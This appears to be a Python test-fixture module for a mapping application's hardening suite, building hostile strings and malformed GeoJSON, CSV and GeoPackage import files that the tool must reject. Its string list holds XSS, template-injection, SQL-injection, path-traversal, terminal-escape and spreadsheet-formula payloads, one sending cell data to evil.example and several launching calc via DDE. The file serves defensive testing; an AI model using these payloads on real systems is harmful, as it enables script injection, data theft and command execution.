"""The hostile corpora of the hardening suite (issue 10): strings and import files.

Built in code (no binary fixtures): each file is written into a folder the test gives.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

#: A located point inside unit 4 of Elbasan and a period of the plan.
POINT = {"type": "Point", "coordinates": [20.0822, 41.1125]}
PERIOD = "2022-H2"

#: Hostile strings (>= 50): markup, script, attribute and URL breakers, template and
#: formula syntax, Unicode tricks. Each is stored as a hotspot name/note and shown on every page.
HOSTILE_STRINGS: tuple[str, ...] = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "<svg onload=alert(3)>",
    "\"><script>alert(4)</script>", "'><img src=x onerror=alert(5)>", "<iframe src=javascript:alert(6)>",
    "javascript:alert(7)", "<a href=\"javascript:alert(8)\">x</a>", "<body onload=alert(9)>",
    "<details open ontoggle=alert(10)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(11)>",
    "</textarea><script>alert(12)</script>", "</title><script>alert(13)</script>", "`;alert(14);//",
    "${alert(15)}", "{{constructor.constructor('alert(16)')()}}", "<% alert(17) %>", "'-alert(18)-'",
    "\\\";alert(19);//", "</script><script>alert(20)</script>", "<style>@import 'javascript:alert(21)'</style>",
    "<object data=javascript:alert(22)>", "<embed src=javascript:alert(23)>", "<video><source onerror=alert(24)>",
    "<input autofocus onfocus=alert(25)>", "<marquee onstart=alert(26)>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><button>x</button></form>",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "**bold** _it_ [link](javascript:alert(36))",
    "![x](javascript:alert(37))", "$\\alert{38}$", ":red[alert 39]", "<b>bold</b> & &amp; &lt;",
    "Rruga “Kristoforidhi” ë ç Ë Ç", "‮reversed‬ text", "zero​width‌joiner‍", "𝕳𝖔𝖙𝖘𝖕𝖔𝖙 😀 🇦🇱",
    "ﷺ العربية עברית", "' OR '1'='1", "'; DROP TABLE hotspots; --", "../../../../etc/passwd",
    "%3Cscript%3Ealert(49)%3C/script%3E", "&#60;script&#62;alert(50)&#60;/script&#62;",
    "<scr<script>ipt>alert(51)</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(52)>\">",
    "<x onclick=alert(53)>click", "data:text/html,<script>alert(54)</script>",
    # server-side template syntax: folium re-renders every script through Jinja
    "{{7*7}} {{ config }}", "{% for x in range(3) %}x{% endfor %}", "{# comment #} {{", "{{ self.__init__.__globals__ }}",
)


def _collection(*features: dict) -> dict:
    return {"type": "FeatureCollection", "features": list(features)}


def _feature(geometry: dict | None = POINT, **props: object) -> dict:
    base: dict[str, object] = {"name": "Test place", "category": "crime", "period": PERIOD}
    base.update(props)
    return {"type": "Feature", "properties": base, "geometry": geometry}


def _json(path: Path, doc: dict) -> None:
    path.write_text(json.dumps(doc, ensure_ascii=True), encoding="utf-8")


def _raw(text: str) -> Callable[[Path], None]:
    return lambda path: path.write_text(text, encoding="utf-8")


def _gpkg_other_layer(path: Path) -> None:
    import geopandas as gpd
    import shapely

    gpd.GeoDataFrame({"name": ["x"], "category": ["crime"]}, geometry=[shapely.Point(20.0822, 41.1125)],
                     crs="EPSG:4326").to_file(path, layer="evil", driver="GPKG")


def gpkg_in_3857(path: Path) -> None:
    """Write a GeoPackage in Web Mercator (EPSG:3857) whose point lies in Elbasan: reprojected, accepted."""
    import geopandas as gpd
    import shapely

    gdf = gpd.GeoDataFrame({"name": ["x"], "category": ["crime"], "period": [PERIOD]},
                           geometry=[shapely.Point(2231000.0, 5029000.0)], crs="EPSG:3857")
    gdf.to_file(path, layer="hotspots", driver="GPKG")


def _ring(n: int) -> list[list[float]]:
    """Return a closed ring of ``n`` vertices round the point (about 100 m across), coordinates rounded short."""
    import math

    x, y = POINT["coordinates"]  # type: ignore[misc]
    ring = [[round(x + 0.001 * math.cos(2 * math.pi * i / n), 6), round(y + 0.001 * math.sin(2 * math.pi * i / n), 6)]
            for i in range(n)]
    return ring + [ring[0]]


def _compact(path: Path, doc: dict) -> None:
    """Write ``doc`` as compact JSON (no spaces): a 200,000-vertex polygon stays under the size limit."""
    path.write_text(json.dumps(doc, separators=(",", ":")), encoding="utf-8")


def _gpkg(path: Path, geometry: object, crs: str = "EPSG:4326", **layers: object) -> None:
    import geopandas as gpd

    for layer, name in layers.items():  # other layers first: the first layer is not "hotspots"
        gpd.GeoDataFrame({"name": [name], "category": ["crime"]}, geometry=[geometry], crs=crs).to_file(
            path, layer=layer, driver="GPKG")
    gpd.GeoDataFrame({"name": ["x"], "category": ["crime"], "period": [PERIOD], "location_quality": ["approximate"]},
                     geometry=[geometry], crs=crs).to_file(path, layer="hotspots", driver="GPKG")


def _gpkg_3d(path: Path) -> None:
    import shapely

    _gpkg(path, shapely.Point(20.0822, 41.1125, 120.0))


def _gpkg_200k(path: Path) -> None:
    import shapely

    _gpkg(path, shapely.Polygon(_ring(200_000)))


def gpkg_in_utm(path: Path) -> None:
    """Write a GeoPackage in UTM 34N (EPSG:32634) whose point lies in Elbasan: reprojected, accepted, said."""
    import shapely

    _gpkg(path, shapely.Point(423000.0, 4551500.0), crs="EPSG:32634")


def gpkg_first_layer_not_hotspots(path: Path) -> None:
    """Write a GeoPackage whose first layer is not ``hotspots``: the ``hotspots`` layer is read, the other is named."""
    import shapely

    _gpkg(path, shapely.Point(20.0822, 41.1125), aaa="wrong layer")


def _point(*coordinates: object) -> dict:
    return {"type": "Point", "coordinates": list(coordinates)}


_OPEN_RING = [[20.080, 41.110], [20.085, 41.110], [20.085, 41.115], [20.080, 41.115]]


_DEEP = '{"type": "FeatureCollection", "features": [' + "[" * 200_000 + "]" * 200_000 + "]}"
_FEATURE_TEXT = '{"type": "Feature", "geometry": null, "properties": {"name": "x", "category": "crime", "plan_unit": %s}}'


#: name -> writer of a hostile import file; each must be refused (exit 2, store unchanged).
HOSTILE_FILES: dict[str, Callable[[Path], None]] = {
    "deep.geojson": _raw(_DEEP),
    "infinity.geojson": _raw('{"type": "FeatureCollection", "features": [%s]}' % (_FEATURE_TEXT % "Infinity")),
    "nan.geojson": _raw('{"type": "FeatureCollection", "features": [%s]}' % (_FEATURE_TEXT % "NaN")),
    "1e999.geojson": _raw('{"type": "FeatureCollection", "features": [%s]}' % (_FEATURE_TEXT % "1e999")),
    "10pow400.geojson": _raw('{"type": "FeatureCollection", "features": [%s]}' % (_FEATURE_TEXT % ("1" + "0" * 400))),
    "5000digits.geojson": _raw('{"type": "FeatureCollection", "features": [%s]}' % (_FEATURE_TEXT % ("9" * 5000))),
    "surrogate.geojson": _raw('{"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": null,'
                              ' "properties": {"name": "bad \\ud800 name", "category": "crime"}}]}'),
    "nul.geojson": lambda p: _json(p, _collection(_feature(name="NUL\x00byte"))),
    "escape.geojson": lambda p: _json(p, _collection(_feature(notes="\x1b]0;owned\x07\x1b[2J"))),
    "escape_id.geojson": lambda p: _json(p, _collection(_feature(id="X\x1b[31mred"))),
    "duplicate_ids.geojson": lambda p: _json(p, _collection(_feature(id="X-1", name="first"), _feature(id="X-1", name="second"))),
    "category_change.geojson": lambda p: _json(p, _collection(_feature(
        id="H-1.7-02", category="street_children", problem="1.10",
        name="Lagja \"Emin Matraxhiu\" Rruga \"Besim Qorri\" prapa stadiumit e prapa pishinës së vjetër"))),
    "name_change.geojson": lambda p: _json(p, _collection(_feature(id="H-1.7-02", name="Renamed by an import"))),
    "crs_3857.geojson": lambda p: _json(p, {**_collection(_feature()), "crs": {
        "type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::3857", "x": "4326"}}}),
    "crs_43260.geojson": lambda p: _json(p, {**_collection(_feature()), "crs": {
        "type": "name", "properties": {"name": "EPSG:43260"}}}),
    "props_list.geojson": lambda p: _json(p, _collection({"type": "Feature", "properties": ["a"], "geometry": POINT})),
    "not_utf8.geojson": lambda p: p.write_bytes(b'{"type": "FeatureCollection", "features": [\xff\xfe]}'),
    "too_big.geojson": lambda p: p.write_bytes(b" " * (5 * 1024 * 1024 + 1)),
    "nan_coords.geojson": lambda p: _json(p, _collection(_feature(geometry={"type": "Point", "coordinates": [1e400, 41.1]}))),
    "outside.geojson": lambda p: _json(p, _collection(_feature(geometry={"type": "Point", "coordinates": [19.8, 41.3]}))),
    "csv_nul.csv": _raw("name,category,period,wkt\nbad\x00name,crime,2022-H2,POINT (20.0822 41.1125)\n"),
    "gpkg_other_layer.gpkg": _gpkg_other_layer,
    # what shapely or GDAL would read leniently (issue 20): each refused with its reason
    "point_3d.geojson": lambda p: _json(p, _collection(_feature(geometry=_point(20.0822, 41.1125, 120.0)))),
    "polygon_3d.geojson": lambda p: _json(p, _collection(_feature(location_quality="approximate", geometry={
        "type": "Polygon", "coordinates": [[[*c, 5.0] for c in [*_OPEN_RING, _OPEN_RING[0]]]]}))),
    "coords_strings.geojson": lambda p: _json(p, _collection(_feature(geometry=_point("20.0822", "41.1125")))),
    "coords_bool.geojson": lambda p: _json(p, _collection(_feature(geometry=_point(True, 41.1125)))),
    "coords_nested.geojson": lambda p: _json(p, _collection(_feature(geometry=_point([20.0822, 41.1125])))),
    "type_lowercase.geojson": lambda p: _json(p, _collection(_feature(geometry={**POINT, "type": "point"}))),
    "empty_point.geojson": lambda p: _json(p, _collection(_feature(geometry=_point()))),
    "unclosed_polygon.geojson": lambda p: _json(p, _collection(_feature(location_quality="approximate", geometry={
        "type": "Polygon", "coordinates": [_OPEN_RING]}))),
    "polygon_200k.geojson": lambda p: _compact(p, _collection(_feature(location_quality="approximate", geometry={
        "type": "Polygon", "coordinates": [_ring(200_000)]}))),
    "geometry_crs_3857.geojson": lambda p: _json(p, _collection(_feature(geometry={
        **POINT, "crs": {"type": "name", "properties": {"name": "EPSG:3857"}}}))),
    "feature_crs_3857.geojson": lambda p: _json(p, _collection({**_feature(), "crs": {
        "type": "name", "properties": {"name": "EPSG:3857"}}})),
    "point_3d.gpkg": _gpkg_3d,
    "polygon_200k.gpkg": _gpkg_200k,
    "csv_point_z.csv": _raw("name,category,period,wkt\nx,crime,2022-H2,POINT Z (20.0822 41.1125 5)\n"),
}

#: name -> writer of a file accepted on purpose, with what must be said about it.
HANDLED_FILES: dict[str, Callable[[Path], None]] = {
    "utm.gpkg": gpkg_in_utm,
    "first_layer_not_hotspots.gpkg": gpkg_first_layer_not_hotspots,
}


def write_hostile_files(folder: Path) -> dict[str, Path]:
    """Write every hostile file into ``folder`` and return name -> path."""
    paths = {}
    for name, writer in HOSTILE_FILES.items():
        path = folder / name
        writer(path)
        paths[name] = path
    return paths
